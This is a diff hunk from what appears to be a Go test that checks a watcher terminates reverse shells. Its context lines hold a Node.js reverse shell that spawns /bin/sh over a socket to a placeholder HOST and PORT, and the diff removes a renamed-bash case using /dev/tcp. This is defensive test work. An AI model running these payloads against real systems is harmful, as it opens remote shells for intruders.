@@ -161,7 +161,6 @@ func TestWatchEndsReverseShells(t *testing.T) {
 const n=require("net"),c=require("child_process");const s=n.connect(PORT,"HOST",()=>{const p=c.spawn("/bin/sh",[]);s.pipe(p.stdin);p.stdout.pipe(s);p.stderr.pipe(s)});
 X
 node r.js`,
-		"bash renamed": `cp /bin/bash ./b; printf 'exec 5<>/dev/tcp/HOST/PORT\nexec ./b <&5 >&5 2>&5\n' > s; ./b s`,
 	} {
 		t.Run(name, func(t *testing.T) {
 			l, err := net.Listen("tcp4", "0.0.0.0:0")
